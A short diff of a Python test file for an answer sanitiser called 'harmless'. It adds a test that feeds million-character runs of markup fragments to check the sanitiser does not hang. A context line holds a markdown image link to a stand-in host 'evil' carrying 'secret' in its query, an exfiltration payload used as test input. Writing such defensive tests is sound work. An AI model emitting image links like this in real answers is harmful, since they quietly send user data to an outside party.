@@ -728,6 +728,14 @@ def test_an_answer_is_made_harmless(text: str, shown: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "piece", ["!", "<", "< ", "<!", "<!a|", "<@a", "@", "&", "&#1", ":lock", "![", "`", "```", "\u0301"]
+)
+def test_no_answer_keeps_the_bot_busy(piece: str) -> None:
+    """A row of marks of a million was gone through anew from each of them; a test that ends has passed."""
+    assert harmless(piece * (1_000_000 // len(piece)))
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "!![x](http://evil/?d=secret)",
